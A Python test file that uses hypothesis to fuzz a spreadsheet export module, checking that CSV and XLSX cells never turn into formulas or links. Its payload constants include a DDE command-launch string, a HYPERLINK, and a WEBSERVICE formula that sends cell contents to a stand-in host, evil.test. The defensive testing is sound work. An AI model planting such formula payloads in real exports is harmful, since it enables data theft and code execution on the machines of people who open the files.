"""Text of strangers never runs as a formula in a spreadsheet, and numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from typing import Any, Final, Literal

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exports.formats import FORMATS
from exports.tables.columns import Sheet
from exports.tables.warnings import WarningCounts
from tests.support.protections import protected_by
from tests.support.rows import batch, group, measure, table
from tests.support.workbooks import assert_inert, cells, first_sheet, opened

SIGNS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
HIDING: Final = ("", " ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', '""', "'", "\x0b")
PAYLOADS: Final = (
    *("1+1", "SUM(A1)", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.test","x")', "A1", ""),
    *('WEBSERVICE("http://evil.test/"&A1)', "\t=1", "</t></is></c><c><f>1</f></c>"),
)
CUTS: Final = (",", ";", "\t", "|", "\r", "\n", "\r\n", '"', '",', '";')
HOSTILE: Final = st.lists(
    st.sampled_from([*SIGNS, *HIDING, *PAYLOADS, *CUTS, "a", "销售", "-1", "+86"]), max_size=9
).map("".join) | st.tuples(
    st.sampled_from(HIDING), st.sampled_from(SIGNS), st.sampled_from(PAYLOADS)
).map("".join)
NUMBERS: Final = st.integers(-(10**14), 10**14)
BOTH: Final[tuple[Literal["stats", "rows"], ...]] = ("stats", "rows")

# Characters that programs ignore at the start of a cell.
_SKIPPED: Final = ' \u00a0\u3000\u200b\ufeff"\x0b\t\r\n\x00'
_NEGATIVE: Final = re.compile("-[0-9]+([.][0-9]+)?([eE][-+]?[0-9]+)?")
_SIGN: Final = re.compile("[=+\\-@＝＋－＠]")


def file_of(
    kind: str, title: str, *rows: tuple[object, ...], layout: Literal["stats", "rows"] = "stats"
) -> bytes:
    of = table(
        measure("n", pa.int64()),
        measure("d", pa.decimal128(20, 2)),
        group(title),
        about=Sheet(title="Sales", summary="=1+1", layout=layout),
    )
    return b"".join(FORMATS[kind].encode(of, [batch(of, *rows)], WarningCounts()))


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may treat a cell of a csv file as a formula that is not a number."""
    return bool(_SIGN.match(cell.lstrip(_SKIPPED))) and not _NEGATIVE.fullmatch(cell)


@given(texts=st.lists(HOSTILE, min_size=1, max_size=5), number=NUMBERS)
@protected_by("exports/formats/csv.py", "_doubled(safe_texts(unique))", instead="_doubled(unique)")
@protected_by("exports/formats/csv.py", "_QUOTE + safe_text(text)", instead="_QUOTE + text")
def test_no_cell_of_a_csv_file_is_a_formula_if_the_separator_is_a_comma(
    texts: list[str], number: int
) -> None:
    data = file_of("csv", texts[0], *[(number, Decimal("-0.30"), text) for text in texts])
    read = [*csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True)]
    assert len(read) == len(texts) + 1
    for row in read[1:]:
        assert row[:2] == [str(number), "-0.30"]
    for row in read:
        assert len(row) == 3
        assert not is_formula(row[2]), row
        assert not row[2].startswith(("\t", "\r", "\n", "\x00")), row


@given(text=HOSTILE)
@protected_by("exports/formats/formulas.py", "(?<=[;|\\t\\r\\n])", instead="(?!)")
def test_no_cell_of_a_csv_file_is_a_formula_if_the_separator_is_not_a_comma(text: str) -> None:
    data = file_of("csv", "t", (1, Decimal(2), text)).decode("utf-8-sig")
    _, _, line = data.partition("\r\n")
    for cut in ";|\t":
        for cell in re.split(rf"[\r\n{re.escape(cut)}]", line.removesuffix("\r\n")):
            # The first cell of the line also holds the numbers before the text.
            # A text that is nothing but a negative number is one in its quotes too.
            assert not is_formula(cell.removeprefix("1,2.00,").strip('"')), (cut, cell)


@pytest.mark.parametrize("layout", BOTH)
@given(texts=st.lists(HOSTILE, min_size=1, max_size=4), number=NUMBERS)
@settings(max_examples=40)
@protected_by("exports/formats/xlsx/cells.py", "sheet.write_string(", instead="sheet.write(")
@protected_by("exports/formats/xlsx/xml.py", '("<", "&lt;"), ', instead="")
def test_no_cell_of_an_xlsx_file_is_a_formula_or_a_link(
    layout: Literal["stats", "rows"], texts: list[str], number: int
) -> None:
    rows = [(number, Decimal("-0.30"), text) for text in texts]
    data = file_of("xlsx", texts[0] or "t", *rows, layout=layout)
    assert_inert(data)
    for sheet in opened(data).worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
    body = cells(data)[1 : len(rows) + 1]
    # openpyxl reads an empty text as None.
    assert [row[2] or "" for row in body] == texts
    for row in first_sheet(data).iter_rows(min_row=2, max_row=len(rows) + 1, max_col=2):
        assert [cell.data_type for cell in row] == ["n", "n"]
        assert [_exactly(cell.value) for cell in row] == [Decimal(number), Decimal("-0.3")]


def _exactly(value: Any) -> Decimal:
    return Decimal(str(value))
